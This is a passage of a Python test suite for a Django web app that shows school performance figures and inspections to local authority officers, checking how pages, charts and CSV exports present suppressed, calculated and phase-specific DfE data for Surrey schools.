    for path in (KS4_INFO_2024, KS4_INFO_2025):
        assert import_file(path).outcome == "succeeded"
    sign_in(client, surrey)
    html = client.get(reverse("evidence:school-results", args=[136906])).content.decode().replace("−", "-")
    rows = table_rows(section(html, "ks4_attainment8_gap"))
    column = rows[0].index("Disadvantaged pupils")
    pupils = {row[0]: row[column] for row in rows[1:] if len(row) > column}  # not the rows that mark a break
    assert pupils["2024/25"] == "not given"
    assert pupils["2018/19"].replace(",", "").isdigit() and pupils["2023/24"].replace(",", "").isdigit()
    notes = " ".join(re.sub(r"<[^>]+>", " ", section(html, "ks4_attainment8_gap")).replace("&#39;", "'").split())
    assert "DfE's file for 2024/25 gives the school's figure but no number of disadvantaged pupils it counts." in notes


@pytest.mark.parametrize(
    ("urn", "said"),
    [
        (20115, "give no figures or inspections for a children’s centre."),  # Ash Grange Sure Start Children's Centre
        (130824, "No national figures or inspections have been imported for this school yet."),  # East Surrey College
    ],
)
def test_a_results_page_without_figures_says_why_a_childrens_centre_has_none(client, surrey, urn, said):
    """A children's centre (or a university) is on GIAS's register, but no data set imported here is about it: its page
    does not say that none has been imported "yet". A college's may still come (some teach pupils to 16)."""
    sign_in(client, surrey)
    page = text(client.get(reverse("evidence:school-results", args=[urn])))
    assert said in page
    assert ("yet." in page) == (urn != 20115)
    # Nor is there an empty Inspections tab saying "this school" has none.
    assert ("No inspections have been imported for this school." in page) == (urn != 20115)


def test_results_pages_say_what_each_word_shown_in_place_of_a_figure_means(client, surrey):
    """Sunnydown School's (125458) figures include 'suppressed' and 'not published'; the page says what those mean, and
    no word it does not show. The authority's page does the same for its own and England's figures."""
    for path in (KS4_INFO_2024, KS4_INFO_2025):
        assert import_file(path).outcome == "succeeded"
    sign_in(client, surrey)
    page = text(client.get(reverse("evidence:school-results", args=[125458])))
    words = page[page.index("Why some figures are shown as words") : page.index("A missing figure is never shown or counted as zero")]
    assert "suppressed : DfE withholds the figure because it is about so few pupils that one of them could be identified" in words
    assert "not published : DfE published no figure for that year" in words
    assert "low coverage" not in words and "rounds to zero" not in words
    assert "Why some figures are shown as words" not in text(client.get(reverse("evidence:authority-results", args=[936])))
    figure = AreaObservation.objects.filter(area=Area.LA, la_code=936, measure__code="ks2_rwm_expected").latest("year")
    figure.value, figure.status = None, Status.SUPPRESSED
    figure.save()
    page = text(client.get(reverse("evidence:authority-results", args=[936])))
    words = page[page.index("Why some figures are shown as words") : page.index("A missing figure is never shown or counted as zero")]
    assert "suppressed : DfE withholds" in words and "not published" not in words


def test_latest_figures_give_each_later_year_its_own_reason(client, surrey):
    """Sunnydown School (125458): its Progress 8 gap was last published for 2016/17 (−1.53); DfE then
    suppressed it (SUPP in 2018/19, c in 2023/24) and published none for 2024/25 (the file's z)."""
    for path in (KS4[2017], KS4_INFO_2024, KS4_INFO_2025):
        assert import_file(path).outcome == "succeeded"
    sign_in(client, surrey)
    row = progress8_gap_row(client, 125458)
    notes = re.findall(r'<span class="govuk-body-s[^"]*">([^<]*)</span>', row)
    assert "2016/17" in row and "-1.53" in row.replace("−", "-")
    assert notes == ["2018/19, 2023/24: suppressed", "2024/25: not published"]
    assert "&lt;" not in row


def test_a_linked_school_that_is_still_open_is_not_joined_to_the_history(client, surrey):
    """GIAS's 2025 links make the Royal Grammar School (125424) an amalgamated predecessor of Lanesborough
    School (125343), a prep school; both are open, and the grammar school's GCSE results are its own."""
    assert import_file(LINKS_2025, la_codes=[936]).outcome == "succeeded"
    data = command_json(125343)
    assert (data["school"]["history_urns"], data["school"]["linked_but_still_open"]) == ([125343], [125424])
    assert not any(code.startswith("ks4_") for code in data["observations"])
    assert command_json(125424)["observations"]["ks4_attainment8"]["2019"]["value"] is not None  # the figures exist, as its own
    sign_in(client, surrey)
    html = client.get(reverse("evidence:school-results", args=[125343])).content.decode()
    assert "GIAS links Royal Grammar School (URN 125424) to this school as an earlier school, but it is still open" in html
    assert "earlier URNs" not in html and "Key stage 4" not in html


def test_results_page_names_the_earlier_urns_it_joins_and_those_the_register_lacks(client, surrey):
    """Guildford Grove (143373) joins its maintained predecessor, which the 2022 extract holds; Therfield
    School (143902) converted in 2016, and no extract imported holds its old URN 125252."""
    sign_in(client, surrey)
    joined = client.get(reverse("evidence:school-results", args=[143373])).content.decode()
    assert "Figures include this school&#39;s earlier URNs: Guildford Grove Primary School (URN 132758), Westwood Park" in joined
    lacking = client.get(reverse("evidence:school-results", args=[143902])).content.decode()
    assert "GIAS links Therfield School (URN 125252) to this school as an earlier school, but the register does not hold it" in lacking
    assert command_json(143902)["school"]["linked_but_not_held"] == [125252]
    assert "Importing a GIAS extract" not in lacking  # an officer cannot import; an LA administrator is told how
    admin = UserFactory(email="admin@surrey.example")
    grant(admin, Role.LA_ADMIN, School.objects.get(urn=143902).la)
    sign_in(client, admin)
    told = client.get(reverse("evidence:school-results", args=[143902])).content.decode()
    assert "Importing a GIAS extract that includes closed schools, then the figures again, would add them." in told


def test_a_school_page_says_what_came_after_it_is_under_its_successors_urn(client, surrey):
    """GIAS's 2025 links give All Hallows Catholic School (125315) a successor, URN 151190, from 30 September 2024, which
    the register does not hold: its 2014 inspection is the last its pages have. Busbridge Infant School's old URN
    (125099) links to the academy the register holds (149037), whose pages the officer can open."""
    assert import_file(LINKS_2025, la_codes=[936]).outcome == "succeeded"
    sign_in(client, surrey)
    for page in ("evidence:school-results", "evidence:school-timeline"):
        html = text(client.get(reverse(page, args=[125315])))
        assert (
            "GIAS links this school to a successor, All Hallows Catholic School (URN 151190), from 30 September 2024, which the "
            "register does not hold: what is published or inspected since then under its URN is not shown here." in html
        )
        assert "Importing a newer GIAS extract" not in html
        html = client.get(reverse(page, args=[125099])).content.decode()
        assert f'<a class="govuk-link" href="{reverse(page, args=[149037])}">Busbridge Infant School (URN 149037)</a>' in html
        assert "from 1 April 2022: what is published or inspected since then is under its URN, on its own pages." in html
    assert "GIAS links this school to a successor" not in client.get(reverse("evidence:school-results", args=[149037])).content.decode()


@pytest.mark.parametrize(
    ("urn", "label", "sen_support", "ehcp"),
    [
        (124937, "Surrey (state-funded primary schools)", 11.3, 2.5),  # Kingswood Primary School beside Surrey's 299 primaries
        (125259, "Surrey (state-funded secondary schools)", 10.8, 1.9),  # Glebelands School
        (125458, "Surrey (state-funded special schools)", 3.7, 96.3),  # Sunnydown School
    ],
)
def test_the_authoritys_figure_is_for_the_schools_phase_where_englands_is(client, surrey, urn, label, sen_support, ehcp):
    """The 2018/19 census summary gives England's SEN figures phase by phase; Surrey's, computed from its state-funded
    schools' counts, are then for the same phase (for all of them: 11.0% SEN support, 3.7% EHC plans)."""
    from evidence.history import history_urns
    from evidence.presenters import school_series

    school = School.objects.get(urn=urn)
    by_code = {s.measure.code: s for s in school_series(school, history_urns(school))}
    assert by_code["sen_support_pct"].la_label("Surrey") == label
    assert (by_code["sen_support_pct"].la[2019].value, by_code["ehcp_pct"].la[2019].value) == (sen_support, ehcp)
    assert AreaObservation.objects.get(area=Area.LA, la_code=936, measure__code="ehcp_pct", year=2019).value == 3.7
    sign_in(client, surrey)
    html = client.get(reverse("evidence:school-results", args=[urn])).content.decode()
    phase = label.split(" (")[1]  # "state-funded primary schools)"
    assert f"{ehcp}% ({phase}" in html and f"Surrey ({phase}" in html
    # One year's figures draw no chart (see test_a_measure_with_one_years_figures_has_a_table_and_no_chart): the table names both.
    assert table_rows(section(html, "ehcp_pct"))[0][2:4] == [f"Surrey ({phase}", f"England ({phase}"]  # worded alike


@pytest.mark.parametrize(
    ("type_name", "type_group", "phase", "area"),
    [
        ("Community special school", "Special schools", "Not applicable", Area.ENGLAND_SPECIAL),
        ("Academy special converter", "Academies", "Not applicable", Area.ENGLAND_SPECIAL),
        ("Non-maintained special school", "Special schools", "Not applicable", Area.ENGLAND_SPECIAL),
        ("Other independent special school", "Independent schools", "Secondary", Area.ENGLAND_SPECIAL),
        ("Other independent school", "Independent schools", "Secondary", Area.ENGLAND_SECONDARY),
        ("Community school", "Local authority maintained schools", "Not applicable", None),
    ],
)
def test_special_schools_of_every_kind_are_compared_with_englands_special_schools(type_name, type_group, phase, area):
    from types import SimpleNamespace

    from evidence.presenters import phase_area

    assert phase_area(SimpleNamespace(type_name=type_name, type_group=type_group, phase=phase)) == area


def test_an_independent_schools_results_say_the_figures_beside_them_are_of_state_funded_schools(client, surrey):
    from evidence.history import history_urns
    from evidence.presenters import NOT_STATE_FUNDED_NOTE, SPECIAL_NOTE, school_series

    aberdour = School.objects.get(urn=125317)  # Aberdour Preparatory School, an independent school in the census
    series = school_series(aberdour, history_urns(aberdour))
    compared = [s for s in series if s.compared]
    assert compared and all(s.notes[0] == NOT_STATE_FUNDED_NOTE for s in compared)
    gosden = School.objects.get(urn=125452)  # a community special school: state-funded
    assert all(NOT_STATE_FUNDED_NOTE not in s.notes for s in school_series(gosden, history_urns(gosden)))
    assert any(SPECIAL_NOTE in s.notes for s in school_series(gosden, history_urns(gosden)))
    # An independent special school is both: its figures set beside all state-funded schools say each.
    knowl_hill = School.objects.get(urn=125436)
    notes = {note for s in school_series(knowl_hill, history_urns(knowl_hill)) if s.compared for note in s.notes}
    assert f"{NOT_STATE_FUNDED_NOTE} {SPECIAL_NOTE}" in notes
    sign_in(client, surrey)
    html = client.get(reverse("evidence:school-results", args=[125317])).content.decode()
    assert "This school is not state-funded: the authority&#39;s and England&#39;s figures beside it are for their" in html


def test_a_16_to_19_schools_results_say_no_phases_figures_are_beside_them_and_why(client, surrey):
    """GIAS's phase "16 plus" is no phase DfE publishes figures for: the 2018/19 census summary lists Godalming College,
    a 16 to 19 academy, among state-funded secondary schools with no figure of its own. Its page sets no secondary
    schools' figures beside it, and says so where England's column would otherwise say "no data" unexplained: once,
    above the Pupils section's figures, not below each census measure's table, where a screen reader heard it three times."""
    from evidence.history import history_urns
    from evidence.presenters import phase_area, school_series

    godalming = School.objects.get(urn=145004)
    assert (godalming.phase, phase_area(godalming)) == ("16 plus", None)
    by_code = {s.measure.code: s for s in school_series(godalming, history_urns(godalming)) if s.compared}
    assert len(by_code) == 3  # the census's EAL, SEN support and EHC plans, each set beside the authority's and England's
    assert by_code["sen_support_pct"].england_text(2019) == "no data"  # England's is given for three other phases only
    sign_in(client, surrey)
    html = client.get(reverse("evidence:school-results", args=[145004])).content.decode()
    said = "This is a school for students aged 16 to 19: DfE publishes no figures for such schools as a phase"
    assert html.count(said) == 1
    pupils = html[html.index('<h2 class="govuk-heading-l">Pupils</h2>') :]
    assert pupils.index(said) < pupils.index("Pupils: latest figures") < pupils.index('id="h-sen_support_pct"')
    assert "govuk-inset-text" in pupils[: pupils.index(said)]
    kingswood = client.get(reverse("evidence:school-results", args=[124937])).content.decode()  # a secondary school
    assert said not in kingswood


def summary_row(html: str, code: str) -> str:
    """A measure's row of the school page's "latest figures" table, as HTML."""
    row = html[html.index(f'href="#m-{code}"') :]
    return row[: row.index("</tr>")]


def section(html: str, code: str) -> str:
    """A measure's section of a results page (its chart, its table of every year and the notes), as HTML."""
    part = html[html.index(f'id="h-{code}"') :]
    return part[: part.index("</section>")]


def table_rows(html: str) -> list[list[str]]:
    """The cells' text, row by row (heading row first), of the first table in `html`."""
    table = html[html.index("<table") : html.index("</table>")]
    return [
        [" ".join(re.sub(r"<[^>]+>", " ", cell).split()) for cell in re.findall(r"<t[dh][^>]*>(.*?)</t[dh]>", row, re.S)]
        for row in re.findall(r"<tr[^>]*>(.*?)</tr>", table, re.S)
    ]


def csv_rows(client, code) -> list[dict]:
    text = client.get(reverse("evidence:authority-results-csv", args=[code])).content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


KS2_PROGRESS = ("ks2_reading_progress", "ks2_writing_progress", "ks2_maths_progress")


def test_englands_ks2_progress_is_shown_as_its_national_average_by_definition(client, surrey):
    """DfE's KS2 files leave England's progress scores blank (0 by construction): the pages say 0, and why, and
    nothing is stored for it. Kingswood Primary School (124937) has progress scores for 2016/17 to 2018/19."""
    assert not AreaObservation.objects.filter(la_code=0, measure__code__in=KS2_PROGRESS).exists()
    sign_in(client, surrey)
    school = client.get(reverse("evidence:school-results", args=[124937])).content.decode()
    authority = client.get(reverse("evidence:authority-results", args=[936])).content.decode()
    for code in KS2_PROGRESS:
        row = summary_row(school, code)
        assert "0.0 (national average by definition)" in row and "no data" not in row
        for html in (school, authority):
            part = section(html, code)
            years = [cells for cells in table_rows(part)[1:] if len(cells) > 2]  # not a row saying why the trend breaks
            assert [cells[-2 if html is authority else 3] for cells in years] == ["0.0 (national average by definition)"] * 3
            assert "no data" not in part and "DfE does not publish" in part
    # Progress 8: England's (state-funded schools) figure is published, and shown as published.
    progress8 = section(authority, "ks4_progress8")
    assert table_rows(progress8)[1][:3] == ["2018/19", "0.18", "-0.03"] and "by definition" not in progress8
    rows = [r for r in csv_rows(client, 936) if r["URN"] == "" and r["School"].startswith("England")]
    reading = [r for r in rows if r["Measure code"] == "ks2_reading_progress"]
    assert [(r["School"], r["Academic year"], r["Value"], r["Status"], r["File"]) for r in reading] == [
        ("England (state-funded schools)", year, "0.0", "by definition, not published", "") for year in ("2016/17", "2017/18", "2018/19")
    ]
    assert "DfE does not publish" in reading[0]["Source"] and reading[0]["Shown on pages"] == "yes"
    assert [r["Value"] for r in rows if r["Measure code"] == "ks4_progress8"] == ["-0.03"]


def test_a_schools_headcount_is_not_compared_with_its_authoritys_or_englands(client, surrey):
    """Surrey's headcount, where held, is shown on its own page, never beside one school's."""
    fsm = AreaObservation.objects.get(area=Area.LA, la_code=936, measure__code="fsm_pct", year=2023)
    pupils = Measure.objects.get(code="pupils")
    AreaObservation.objects.create(
        area=Area.LA, la_code=936, measure=pupils, year=2023, value=185_000, source=fsm.source, import_run=fsm.import_run, computed=True
    )
    sign_in(client, surrey)
    html = client.get(reverse("evidence:school-results", args=[124937])).content.decode()
    row = summary_row(html, "pupils")
    assert row.count("not compared") == 2 and "no data" not in row and "185,000" not in row
    part = section(html, "pupils")
    assert table_rows(part)[0] == ["Year", "School", "Source"] and "no data" not in part
    assert "not set beside" in part and ">Pupils on roll (headcount), by year: the school</title>" in part
    authority = section(client.get(reverse("evidence:authority-results", args=[936])).content.decode(), "pupils")
    assert table_rows(authority)[1][:2] == ["2022/23", "185,000"]


def test_authority_overview_gives_englands_phase_figures_where_england_is_given_by_phase_only(client, surrey):
    """The 2018/19 census summary gives England's SEN and EAL figures for each phase, not for all schools."""
    sign_in(client, surrey)
    html = client.get(reverse("evidence:authority-results", args=[936])).content.decode()
    phases = {"sen_support_pct": ("12.6%", "10.8%", "1.6%"), "ehcp_pct": ("1.6%", "1.7%", "98.3%"), "eal_pct": ("21.2%", "16.9%", "14.7%")}
    for code, (primary, secondary, special) in phases.items():
        part = section(html, code)
        row = next(cells for cells in table_rows(part) if cells[0] == "2018/19")
        assert row[2] == (
            f"{primary} (state-funded primary schools) {secondary} (state-funded secondary schools)"
            f" {special} (state-funded special schools)"
        )
        assert "no data" not in part and "published for each phase of school only" in part
    assert table_rows(section(html, "eal_pct"))[1][:3] == ["2022/23", "14.3%", "20.2%"]  # England's for all schools
    england = {
        (r["School"], r["Measure code"], r["Academic year"]): r["Value"]
        for r in csv_rows(client, 936)
        if r["URN"] == "" and r["School"].startswith("England")
    }
    assert england["England (state-funded primary schools)", "sen_support_pct", "2018/19"] == "12.6"
    assert england["England (state-funded special schools)", "ehcp_pct", "2018/19"] == "98.3"
    assert england["England (state-funded secondary schools)", "eal_pct", "2018/19"] == "16.9"
    assert england["England (state-funded schools)", "eal_pct", "2022/23"] == "20.2"
    assert ("England (state-funded primary schools)", "eal_pct", "2022/23") not in england
    # As on the page: not England's phase headcounts, which the page does not show beside Surrey's.
    assert not [key for key in england if key[1] == "pupils"]


def test_results_page_gives_englands_figure_for_the_schools_phase_in_a_year_england_gives_no_other(client, surrey):
    """England's EAL figure is for all schools in 2022/23, but for each phase only in 2018/19: that year Surrey's
    for its primary schools (14.5%) is beside it, and Surrey's for all its schools (12.9%), which its line draws."""
    sign_in(client, surrey)
    html = client.get(reverse("evidence:school-results", args=[124937])).content.decode()
    rows = table_rows(section(html, "eal_pct"))
    assert rows[0][:4] == ["Year", "School", "Surrey", "England"]
    assert rows[1][:4] == ["2022/23", "4.5%", "14.3%", "20.2%"]
    assert rows[-1][:4] == [
        "2018/19",
        "8.6%",
        "12.9% (all state-funded schools) 14.5% (state-funded primary schools)",
        "21.2% (state-funded primary schools)",
    ]
    assert "so the authority&#39;s is given for the same phase as well as for all its schools" in section(html, "eal_pct")


def test_a_schools_page_says_the_authoritys_figures_calculated_here_are_so_not_only_englands(client, surrey):
    """Surrey's census figures beside a school's are calculated here from its schools' counts (the 2022/23 file is of
    schools only; the 2018/19 summary gives England's phase by phase, not Surrey's): a school's table names only the
    school's figure's source, so its notes say so, as they say England's is. Hurst Park Primary School (125038): 11.2%
    FSM beside Surrey's 13.9% and England's 23.8%, both calculated; 18.7% SEN support beside Surrey's primaries' 11.3%,
    calculated, and England's primaries' 12.6%, published."""
    sign_in(client, surrey)
    html = unescape(client.get(reverse("evidence:school-results", args=[125038])).content.decode())
    fsm = section(html, "fsm_pct")
    assert table_rows(fsm)[1][:4] == ["2022/23", "11.2%", "13.9%", "23.8%"]
    assert "The authority's and England's figures for 2022/23 are calculated here from the schools' counts." in fsm
    assert "England's figure for 2022/23 is calculated" not in fsm
    sen = section(html, "sen_support_pct")
    assert table_rows(sen)[1][:4] == ["2018/19", "18.7%", "11.3%", "12.6%"]
    assert "The authority's figure for 2018/19 is calculated here from the schools' counts." in sen
    assert "England's figure for 2018/19 is calculated" not in sen
    eal = section(html, "eal_pct")  # both years: Surrey's calculated in each, England's only in 2022/23
    assert "The authority's figure for 2018/19 and 2022/23 is calculated here from the schools' counts." in eal
    assert "England's figure for 2022/23 is calculated here from the schools' counts." in eal
    # A published authority figure has no such note: Surrey's Key stage 2 results are DfE's own.
    assert "The authority's" not in section(html, "ks2_rwm_expected")
    # The authority's own page names its figures' sources in its table: no note repeats it.
    authority = unescape(client.get(reverse("evidence:authority-results", args=[936])).content.decode())
    assert "The authority's" not in section(authority, "fsm_pct") and "calculated here from the schools' counts" in section(
        authority, "fsm_pct"
    )


def drawn_points(part: str) -> list[tuple[str, float, bool]]:
    """(year, value, outlined) of each point a section's chart draws, read back off the drawing: its x is a year's
    label's, and its value is where its y lies between two of the scale's labels."""
    ticks = [(float(y) - 4, float(label)) for y, label in re.findall(r'<text x="\d+" y="([\d.]+)" text-anchor="end"[^>]*>([^<]*)<', part)]
    (y0, v0), (y1, v1) = ticks[0], ticks[-1]
    plot = part[part.index('class="cg-chart"') :].split("</svg>", 1)[0]
    plot = re.sub(r"<g><title>.*?</g>", "", plot)  # the marks below the years' labels of years with no figure: no points
    years = {float(x): year for x, year in re.findall(r'<text x="([\d.]+)" y="\d+" text-anchor="middle"[^>]*>(\d{4}/\d\d)<', plot)}
    centres = [
        (float(x), float(y), paint) for x, y, paint in re.findall(r'<circle cx="([\d.]+)" cy="([\d.]+)" r="4.5" fill="([^"]+)"', plot)
    ]
    centres += [
        (float(x) + 4, float(y) + 4, paint)
        for x, y, paint in re.findall(r'<rect x="([\d.]+)" y="([\d.]+)" width="8" height="8" fill="([^"]+)"', plot)
    ]
    centres += [  # a diamond's second corner is level with its centre, and its first above it
        (float(x), float(y), paint)
        for x, y, paint in re.findall(r'<polygon points="([\d.]+),[\d.]+ [\d.]+,([\d.]+) [^"]*" fill="([^"]+)"', plot)
    ]
    return [(years[x], v0 + (y - y0) * (v1 - v0) / (y1 - y0), paint == "#fff") for x, y, paint in centres]


def assert_the_table_gives_every_figure_the_chart_draws(part: str, columns: slice) -> None:
    figures = {row[0]: [float(n) for cell in row[columns] for n in re.findall(r"-?\d+(?:\.\d+)?", cell)] for row in table_rows(part)[1:]}
    drawn = drawn_points(part)
    assert drawn
    span = max(value for _, value, _ in drawn) - min(value for _, value, _ in drawn)
    missing = [(year, value) for year, value, _ in drawn if not any(abs(value - n) <= max(0.06, span / 200) for n in figures[year])]
    assert not missing, f"drawn but not in the table: {missing}"


def test_every_figure_a_chart_draws_is_in_its_table_and_a_phases_figure_is_drawn_apart(client, surrey):
    """The table is the chart's accessible version. Kingswood's EAL chart drew Surrey's 12.9% for all its schools in
    2018/19, which the table did not give, and not England's 21.2% for primary schools, which it did."""
    sign_in(client, surrey)
    school = client.get(reverse("evidence:school-results", args=[124937])).content.decode()
    authority = client.get(reverse("evidence:authority-results", args=[936])).content.decode()
    charted = [code for code in re.findall(r'id="h-(\w+)"', school) if 'class="cg-chart"' in section(school, code)]
    assert "eal_pct" in charted and len(charted) >= 8
    for code in charted:
        assert_the_table_gives_every_figure_the_chart_draws(section(school, code), slice(1, 4))  # the school, Surrey, England
    for code in [code for code in re.findall(r'id="h-(\w+)"', authority) if 'class="cg-chart"' in section(authority, code)]:
        assert_the_table_gives_every_figure_the_chart_draws(section(authority, code), slice(1, 3))  # Surrey, England
    # The figures for primary schools alone are drawn as outlined points of their own, named in the key and the title.
    eal = section(school, "eal_pct")
    outlined = sorted((year, round(value, 1)) for year, value, hollow in drawn_points(eal) if hollow)
    assert outlined == [("2018/19", 14.5), ("2018/19", 21.2)]
    assert re.findall(r"</svg>([^<]*)</li>", eal.split('class="govuk-list cg-legend"', 1)[1].split("</ul>", 1)[0]) == [
        "This school",
        "Surrey",
        "England",
        "Surrey (state-funded primary schools), 2018/19",
        "England (state-funded primary schools), 2018/19",
    ]
    title = "the school, Surrey and England; for 2018/19, Surrey (state-funded primary schools) and England (state-funded primary schools)</title>"
    assert title in eal
    assert not re.search(r'<polyline[^>]*stroke="#fff"', eal)  # points only, never joined
    # The authority's chart sets no phase's figure beside Surrey's for all its schools, and says so beside it.
    eal = section(authority, "eal_pct")
    assert not [hollow for _, _, hollow in drawn_points(eal) if hollow]
    notes = eal.split('id="breaks-eal_pct"', 1)[1].split("</div>", 1)[0]
    assert "The chart draws no figure for England for 2018/19: England&#39;s is published for each phase of school only" in notes
    assert 'aria-describedby="breaks-eal_pct chart-eal_pct-table"' in eal.split('class="cg-chart"', 1)[1].split(">", 1)[0]


def test_a_measure_with_one_years_figures_has_a_table_and_no_chart(client, surrey):
    """Kingswood's SEN support is held for 2018/19 alone: lone dots on a scale fitted to them (10 to 13) made 10.2% and
    12.6% look far apart. Such a measure has its table, and no chart, key or word of scrolling one."""
    sign_in(client, surrey)
    for html in (
        client.get(reverse("evidence:school-results", args=[124937])).content.decode(),
        client.get(reverse("evidence:authority-results", args=[936])).content.decode(),
    ):
        part = section(html, "sen_support_pct")
        assert [row[0] for row in table_rows(part)[1:]] == ["2018/19"]
        assert "<svg" not in part and "cg-legend" not in part and "Scroll the chart" not in part and "cg-chart" not in part
        assert 'class="cg-chart"' in section(html, "eal_pct")  # two years: a chart


def test_the_ks2_gap_names_the_national_other_pupils_it_is_measured_against(client, surrey):
    from html import unescape

    from evidence.models import Area, AreaObservation

    sign_in(client, surrey)
    html = client.get(reverse("evidence:school-results", args=[124937])).content.decode()
    gap = unescape(re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", section(html, "ks2_rwm_expected_gap"))))
    # Its latest disadvantaged pupils' figure is 2016/17's (it had none at the end of key stage 2 in 2018/19).
    national = AreaObservation.objects.get(measure__code="ks2_rwm_expected_other", area=Area.ENGLAND, year=2017)
    assert "Disadvantaged pupils: % at the expected standard in reading, writing and maths (this school): 57% (2016/17)." in gap
    assert "Other pupils: % at the expected standard in reading, writing and maths (this school): 74% (2016/17)." in gap
    assert f"Other pupils nationally, against whom the gap is measured: {national.value:.0f}% (2016/17)." in gap
    # The figures are those of the gap's own latest year, not each one's latest: Portesbery School's 2018/19 file gives
    # its other pupils' figure (suppressed) but neither its disadvantaged pupils' nor its gap, whose latest is 2017/18.
    portesbery = client.get(reverse("evidence:school-results", args=[125474])).content.decode()
    gap = unescape(re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", section(portesbery, "ks2_rwm_expected_gap"))))
    assert "Disadvantaged pupils: % at the expected standard in reading, writing and maths (this school): suppressed (2017/18)." in gap
    assert "Other pupils: % at the expected standard in reading, writing and maths (this school): suppressed (2017/18)." in gap
    assert "(2018/19)." not in gap
    # Its table's count of pupils is of the disadvantaged pupils, as its heading says.
    assert table_rows(section(html, "ks2_rwm_expected_gap"))[0][-2:] == ["Disadvantaged pupils", "Source"]
    assert table_rows(section(html, "ks2_rwm_expected"))[0][-2:] == ["Pupils", "Source"]


def test_the_progress_8_gap_names_the_figures_it_is_the_difference_of(client, surrey):
    from html import unescape

    sign_in(client, surrey)
    html = client.get(reverse("evidence:school-results", args=[125271])).content.decode()  # Ash Manor School
    gap = unescape(re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", section(html, "ks4_progress8_gap"))))
    # 2018/19: -0.20 for its disadvantaged pupils against 0.13 for other pupils nationally gives its gap of -0.33.
    assert "Progress 8: disadvantaged pupils (this school): -0.20 (2018/19)." in gap
    assert "Progress 8: other pupils (this school): 0.33 (2018/19)." in gap
    assert "Other pupils nationally, against whom the gap is measured: 0.13 (2018/19)." in gap
    # England's own gap beside the school's and Surrey's: -0.45 - 0.13, calculated from England's row, and said to be.
    assert ["2018/19", "-0.33", "-0.61", "-0.58"] in [row[:4] for row in table_rows(section(html, "ks4_progress8_gap"))]
    assert "England's figure for 2018/19 is calculated here from the same row of DfE's table" in gap


def test_a_figure_keeps_a_decimal_place_it_was_published_with_but_not_a_calculated_ones_run_on():
    from evidence.models import Unit

    percent = Measure(code="p", unit=Unit.PERCENT, places=0)
    assert (percent.format(56.0, Status.VALUE), percent.format(51.6, Status.VALUE)) == ("56%", "51.6%")  # KS4 2016/17: '51.60%'
    assert Measure(code="c", unit=Unit.PERCENT, places=1).format(13.912345, Status.VALUE) == "13.9%"
    assert Measure(code="s", unit=Unit.SCORE, places=2).format(-0.8, Status.VALUE) == "-0.80"
    assert percent.format(None, Status.SUPPRESSED) == "suppressed"
    # The downloads keep it too.
    from evidence.exports import _rounded

    assert (_rounded(51.6, 0), _rounded(56.0, 0), _rounded(13.912345, 1)) == (51.6, 56, 13.9)


def test_the_year_table_says_when_the_areas_figures_are_not_all_to_the_same_precision():
    """KS4 English and maths grade 4 or above: DfE's files give England's 63.9% (2016/17) and 64.2% (2017/18) to a decimal
    place, its 65% (2018/19) as a whole number; Surrey's grade 5 figures are 51.6%, 52.00% and 52%. Shown as they have
    them, with a decimal place only where it is not zero, they would look wrongly rounded without a word."""
    from evidence.models import Source, Unit
    from evidence.series import Point, Series

    def points(values: dict[int, float]) -> dict[int, Point]:
        return {year: Point(year, value, Status.VALUE, Source.KS4_FINAL) for year, value in values.items()}

    measure = Measure(code="ks4_basics_94", unit=Unit.PERCENT, places=0)
    said = (
        "{} figures are shown with a decimal place where they have one that is not zero, and as whole numbers otherwise,"
        " as DfE's files give them: so they are not all to the same precision."
    )
    england = points({2017: 63.9, 2018: 64.2, 2019: 65.0})
    assert said.format("England's") in Series(measure, la=points({2017: 61.0, 2019: 62.0}), england=england).notes
    both = Series(measure, la=points({2017: 51.6, 2018: 52.0, 2019: 52.0}), england=england).notes
    assert said.format("The authority's and England's") in both
    # Whole numbers every year say nothing; nor does a figure calculated here, whose places are the measure's own.
    calculated = {2020: Point(2020, 13.912345, Status.VALUE, Source.KS4_FINAL, computed="calculated")}
    plain = Series(measure, la=points({2017: 61.0, 2019: 62.0}), england=points({2017: 64.0}) | calculated).notes
    assert not any("decimal places" in note for note in plain)


def test_a_year_a_predecessor_also_has_a_figure_for_says_so_and_that_each_covers_part_of_it(client, surrey):
    """St Mark and All Saints (146781) opened on 1 April 2019 in place of Green Oak (125185): the absence file
    has a row for each URN, each for the weeks it was open (6.3% and 5.4%). The page shows the school's own and names the other."""
    sign_in(client, surrey)
    html = client.get(reverse("evidence:school-results", args=[146781])).content.decode()
    note = (
        "Also published for 2018/19: URN 125185, a predecessor, 5.4%. This URN opened on 1 April 2019,"
        " so each figure covers part of the year."
    )
    assert "6.3%" in summary_row(html, "absence_overall_pct") and note in summary_row(html, "absence_overall_pct")
    years = {row[0]: row for row in table_rows(section(html, "absence_overall_pct"))}
    assert years["2018/19"][1] == "6.3%" and note in years["2018/19"][-1]
    # A school whose figures are all its own says nothing of the kind.
    assert "Also published for" not in client.get(reverse("evidence:school-results", args=[124937])).content.decode()


def test_progress_scores_show_the_confidence_interval_dfe_gives_with_them(client, surrey):
    sign_in(client, surrey)
    html = client.get(reverse("evidence:school-results", args=[124937])).content.decode()
    # Kingswood 2018/19: READPROG 1.4, READPROG_LOWER -1, READPROG_UPPER 3.9 (26 pupils).
    assert "95% confidence interval -1.0 to 3.9" in summary_row(html, "ks2_reading_progress")
    years = {row[0]: row for row in table_rows(section(html, "ks2_reading_progress"))}
    assert years["2018/19"][1] == "1.4 95% confidence interval -1.0 to 3.9"
    assert "where the interval includes 0, the score is not clearly different" in section(html, "ks2_reading_progress")
    # All Hallows 2018/19: P8MEA 0.59, P8CILOW 0.43, P8CIUPP 0.76.
    html = client.get(reverse("evidence:school-results", args=[125315])).content.decode()
    years = {row[0]: row for row in table_rows(section(html, "ks4_progress8"))}
    assert years["2018/19"][1] == "0.59 95% confidence interval 0.43 to 0.76"
    # A measure without one says nothing of the kind.
    assert "confidence interval" not in summary_row(html, "ks4_attainment8")


def export_rows(count: int) -> list[list]:
    """Rows as authority_rows gives them: texts, whole and decimal figures, empty cells, a cohort or none."""
    rows = []
    for i in range(count):
        value = [56, 51.6, -0.8, 13.9, None][i % 5]
        rows.append(
            [
                "" if i < 50 else 125000 + i // 40,
                "Surrey" if i < 50 else f"School {i // 40}",
                None if i < 50 else 9362000 + i // 40,
                "" if i < 50 else "Primary",
